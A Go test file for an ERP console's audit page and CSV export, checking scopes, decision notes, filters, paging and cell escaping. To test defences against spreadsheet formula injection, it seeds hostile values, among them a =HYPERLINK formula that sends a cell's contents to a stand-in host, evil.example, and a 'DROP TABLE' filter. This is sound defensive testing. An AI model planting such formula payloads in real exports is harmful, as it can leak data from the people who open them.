package console_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/erpgate/erpgate/api/console"
	"github.com/erpgate/erpgate/erp/records"
)

// TestAuditScopeSignsIn checks that a key with the audit scope alone signs
// in, lands on the audit page and finds there what its scope opens, and
// that each scope's home is its own page.
func TestAuditScopeSignsIn(t *testing.T) {
	s := newSite(t)
	for _, tc := range []struct{ key, home string }{
		{auditorKey, "/console/audit"},
		{reviewerKey, "/console/handovers"},
		{doeKey, "/console/approvals"},
		{kellerKey, "/console/handovers"}, // approve and review: the handovers first
	} {
		b := s.browser()
		if p := b.signIn(tc.key); p.status != http.StatusSeeOther || p.location != "/console" {
			t.Fatalf("sign-in with %s: got %d to %q", tc.key, p.status, p.location)
		}
		if p := b.get("/console"); p.status != http.StatusSeeOther || p.location != tc.home {
			t.Errorf("home of %s: got %d to %q, want %s", tc.key, p.status, p.location, tc.home)
		}
	}
	b := s.browser()
	b.signIn(auditorKey)
	p := b.get("/console/audit")
	if p.status != http.StatusOK || !strings.Contains(p.body, `<a href="/console/audit" aria-current="page">Audit</a>`) {
		t.Fatalf("the audit page for the auditor: %d", p.status)
	}
	for _, path := range []string{"/console/approvals", "/console/handovers"} {
		if p := b.get(path); p.status != http.StatusConflict || !strings.Contains(p.body, "Your key does not open this page") {
			t.Errorf("GET %s as the auditor: %d, want 409 SCOPE_MISSING", path, p.status)
		}
	}
	other := s.browser()
	other.signIn(kellerKey)
	for _, path := range []string{"/console/audit", "/console/audit.csv"} {
		if p := other.get(path); p.status != http.StatusConflict || !strings.Contains(p.body, "SCOPE_MISSING") {
			t.Errorf("GET %s without the audit scope: %d, want 409 SCOPE_MISSING", path, p.status)
		}
	}
	if p := s.browser().get("/console/audit.csv"); p.status != http.StatusSeeOther || p.location != "/console/sign-in?next=/console/audit.csv" {
		t.Errorf("the CSV signed out: got %d to %q, want the sign-in", p.status, p.location)
	}
}

// TestDecisionAuditNote checks that a decision's audit row says which
// decision and why, for every decision and for a refused one.
func TestDecisionAuditNote(t *testing.T) {
	s := newSite(t)
	ctx := context.Background()
	keller := s.browser()
	keller.signIn(kellerKey)
	tok := keller.token("/console/approvals")
	decide := func(id, decision, reason string) {
		t.Helper()
		keller.post("/console/approvals/"+id+"/decision", url.Values{"csrf_token": {tok}, "decision": {decision}, "reason": {reason}})
	}
	approve := s.requestApproval("accept_variance")
	decide(approve, "approve", "Surcharge confirmed with the supplier.")
	reject := s.requestApproval("post_as_invoiced")
	decide(reject, "reject", "  Credit note not agreed.  ")
	// m.keller's own request: refused, and the row says what was asked.
	own, _, err := s.records.CreateApproval(ctx, records.Approval{InvoiceID: "5105600104", Status: records.ApprovalPending,
		Approver: "ap_manager", ProposedAction: "accept_variance", Justification: "Own.", RequestedBy: "m.keller"}, false)
	if err != nil {
		t.Fatal(err)
	}
	decide(own.ID, "approve", "Looks right to me.")

	rows, err := s.records.Audit(ctx, records.AuditFilter{Operation: "decide_approval"})
	if err != nil {
		t.Fatal(err)
	}
	// A refused call's row names no record; it is told by its outcome.
	want := map[string][2]string{
		approve:                 {"OK", "approve: Surcharge confirmed with the supplier."},
		reject:                  {"OK", "reject: Credit note not agreed."},
		"SEGREGATION_OF_DUTIES": {"SEGREGATION_OF_DUTIES", "approve: Looks right to me."},
	}
	for _, e := range rows {
		key := e.ApprovalID
		if e.Outcome != "OK" {
			key = e.Outcome
		}
		w, ok := want[key]
		if !ok {
			continue
		}
		delete(want, key)
		if e.Outcome != w[0] || e.Note != w[1] || e.Client != "m.keller" {
			t.Errorf("decide_approval row of %s: %s by %s, note %q; want %s by m.keller, note %q", e.ApprovalID, e.Outcome, e.Client, e.Note, w[0], w[1])
		}
	}
	for id := range want {
		t.Errorf("no decide_approval row of %s in %+v", id, rows)
	}
}

// auditRowIDs are the rows of the audit page, in order.
var auditRowIDs = regexp.MustCompile(`<tr id="audit-([0-9]+)">`)

// TestAuditPage checks the audit page's filters, its pages, a decision in
// words, and its refusals of a filter of the wrong form.
func TestAuditPage(t *testing.T) {
	s := newSite(t, func(o *console.Options) { o.PageSize = 3 })
	ctx := context.Background()
	day := time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)
	// Seven rows on 2 and 3 March; ids 1 to 7.
	seed := []records.AuditEntry{
		{At: day.Add(8 * time.Hour), Client: "agent", Operation: "request_approval", InvoiceID: "5105600102", ApprovalID: "A0000001", Document: "A0000001", Outcome: "OK"},
		{At: day.Add(9 * time.Hour), Client: "agent", Operation: "hold_invoice", InvoiceID: "5105600102", Document: "H0000001", Outcome: "OK"},
		{At: day.Add(10 * time.Hour), Client: "m.keller", Operation: "decide_approval", InvoiceID: "5105600102", ApprovalID: "A0000001",
			Document: "A0000001", Outcome: "OK", Note: "approve: Surcharge confirmed with the supplier."},
		{At: day.Add(11 * time.Hour), Client: "agent", Operation: "post_invoice", InvoiceID: "5105600102", ApprovalID: "A0000001", Document: "5105600102/2026", Outcome: "OK"},
		{At: day.Add(30 * time.Hour), Client: "agent", Operation: "request_approval", InvoiceID: "5105600104", ApprovalID: "A0000002", Document: "A0000002", Outcome: "OK"},
		{At: day.Add(31 * time.Hour), Client: "j.doe", Operation: "decide_approval", InvoiceID: "5105600104", ApprovalID: "A0000002",
			Document: "A0000002", Outcome: "OK", Note: "send_back: Which contract sets the surcharge?"},
		{At: day.Add(32 * time.Hour), Client: "ap.team", Operation: "resolve_handover", InvoiceID: "5105600103", Document: "HO0000001", Outcome: "OK",
			Note: "Corrected the PO reference."},
	}
	for _, e := range seed {
		if err := s.records.AppendAudit(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	b := s.browser()
	b.signIn(auditorKey)
	rows := func(path string) ([]string, page) {
		t.Helper()
		p := b.get(path)
		if p.status != http.StatusOK {
			t.Fatalf("GET %s: %d %s", path, p.status, p.body)
		}
		var ids []string
		for _, m := range auditRowIDs.FindAllStringSubmatch(p.body, -1) {
			ids = append(ids, m[1])
		}
		return ids, p
	}
	for _, tc := range []struct {
		query string
		want  string
	}{
		{"", "7 6 5"},
		{"?invoice_id=5105600102", "4 3 2"},
		{"?client=agent", "5 4 2"},
		{"?operation=decide_approval", "6 3"},
		{"?from=2026-03-03", "7 6 5"},
		{"?to=2026-03-02&client=agent", "4 2 1"},
		{"?from=2026-03-02T09:00:00Z&to=2026-03-02T10:00:00Z", "3 2"},
		{"?from=2026-03-02T10:00:00%2B01:00&to=2026-03-02T10:30:00Z", "3 2"},
		{"?client=agent&operation=request_approval&invoice_id=5105600104", "5"},
		{"?client=nobody", ""},
	} {
		ids, _ := rows("/console/audit" + tc.query)
		if got := strings.Join(ids, " "); got != tc.want {
			t.Errorf("audit%s: rows %q, want %q", tc.query, got, tc.want)
		}
	}

	// Pages follow by cursor, keeping the filter.
	ids, p := rows("/console/audit?client=agent")
	next := regexp.MustCompile(`<a href="([^"]+)" rel="next">`).FindStringSubmatch(p.body)
	if next == nil {
		t.Fatalf("a full page has no next link: %v", ids)
	}
	ids, p = rows(strings.ReplaceAll(next[1], "&amp;", "&"))
	if got := strings.Join(ids, " "); got != "1" || strings.Contains(p.body, `rel="next"`) {
		t.Errorf("the second page of client=agent: rows %q, want \"1\" and no next link", got)
	}

	// A decision is shown in words, with its reason.
	_, p = rows("/console/audit?operation=decide_approval")
	for _, want := range []string{
		`Decision: <strong class="decision">approve</strong>`, "<td>Surcharge confirmed with the supplier.</td>",
		`Decision: <strong class="decision">send back</strong>`, "<td>Which contract sets the surcharge?</td>",
		`href="/console/audit.csv?operation=decide_approval"`,
	} {
		if !strings.Contains(p.body, want) {
			t.Errorf("the decisions lack %q", want)
		}
	}

	for query, field := range map[string]string{
		"?invoice_id=51056":                   "invoice_id",
		"?operation=DROP%20TABLE":             "operation",
		"?from=yesterday":                     "from",
		"?to=2026-13-01":                      "to",
		"?from=2026-03-03&to=2026-03-02":      "to",
		"?before=x":                           "before",
		"?client=" + strings.Repeat("a", 129): "client",
	} {
		p := b.get("/console/audit" + query)
		if p.status != http.StatusBadRequest || !strings.Contains(p.body, "<code>field</code>: "+field) {
			t.Errorf("audit%s: %d, want 400 naming %s", query, p.status, field)
		}
	}
}

// TestAuditCSV checks the CSV export: the filter's rows, newest first,
// across batches, as an attachment, with every cell a spreadsheet would
// take for a formula written as text.
func TestAuditCSV(t *testing.T) {
	// The console reads the log through a store that answers at most 10
	// rows at a time, so that a few rows make several batches.
	s := newSite(t, func(o *console.Options) { o.Records = shortAudit{o.Records} })
	ctx := context.Background()
	at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	const n = 33
	for i := range n {
		e := records.AuditEntry{At: at.Add(time.Duration(i) * time.Second), Client: "agent", Operation: "post_invoice",
			InvoiceID: "5105600102", Outcome: "OK", RequestID: fmt.Sprint("req-", i)}
		if i%2 == 1 {
			e.InvoiceID = "5105600103"
		}
		if err := s.records.AppendAudit(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	hostile := []records.AuditEntry{
		{At: at.Add(time.Hour), Client: "@attacker", Operation: "resolve_handover", InvoiceID: "5105600104", Outcome: "OK",
			Note: `=HYPERLINK("https://evil.example/?"&A1,"Click")`},
		{At: at.Add(time.Hour), Client: "-2+3", Operation: "decide_approval", InvoiceID: "5105600104", Outcome: "OK",
			Note: "approve: +1 formula, \"quoted\", and a\nnew line"},
	}
	for _, e := range hostile {
		if err := s.records.AppendAudit(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	b := s.browser()
	b.signIn(auditorKey)

	p := b.get("/console/audit.csv")
	if p.status != http.StatusOK || p.header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("audit.csv: %d %q", p.status, p.header.Get("Content-Type"))
	}
	if cd := p.header.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="erpgate-audit-[0-9TZ]+\.csv"$`).MatchString(cd) {
		t.Errorf("Content-Disposition %q, want an attachment", cd)
	}
	all, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := strings.Join(all[0], ",")
	if header != "id,at,client,operation,invoice_id,approval_id,document,outcome,decision,note,request_id,args_digest" {
		t.Errorf("header %q", header)
	}
	if got := len(all) - 1; got != n+len(hostile) {
		t.Fatalf("rows %d, want %d", got, n+len(hostile))
	}
	for i := 2; i < len(all); i++ {
		var a, b int
		fmt.Sscan(all[i-1][0], &a)
		fmt.Sscan(all[i][0], &b)
		if b >= a {
			t.Fatalf("row %d: id %d after %d, want newest first", i, b, a)
		}
	}
	newest, second := all[1], all[2]
	for _, tc := range []struct{ got, want string }{
		{newest[2], "'-2+3"},
		{newest[8], "approve"},
		{newest[9], "approve: +1 formula, \"quoted\", and a\nnew line"},
		{second[2], "'@attacker"},
		{second[9], `'=HYPERLINK("https://evil.example/?"&A1,"Click")`},
		{second[1], "2026-03-02T09:00:00Z"},
	} {
		if tc.got != tc.want {
			t.Errorf("cell %q, want %q", tc.got, tc.want)
		}
	}

	// The export takes the page's filter.
	p = b.get("/console/audit.csv?invoice_id=5105600103&to=2026-03-02T08:00:09Z")
	all, err = csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var reqs []string
	for _, row := range all[1:] {
		reqs = append(reqs, row[10])
	}
	if got := strings.Join(reqs, " "); got != "req-9 req-7 req-5 req-3 req-1" {
		t.Errorf("filtered export: %q", got)
	}
	if p := b.get("/console/audit.csv?from=soon"); p.status != http.StatusBadRequest || !strings.Contains(p.body, "<code>field</code>: from") {
		t.Errorf("an export with a filter of the wrong form: %d, want the 400 page naming from", p.status)
	}
}

// shortAudit is a store whose audit log answers at most 10 rows at a time.
type shortAudit struct{ records.Store }

func (s shortAudit) Audit(ctx context.Context, f records.AuditFilter) ([]records.AuditEntry, error) {
	f.Limit = min(f.Limit, 10)
	return s.Store.Audit(ctx, f)
}
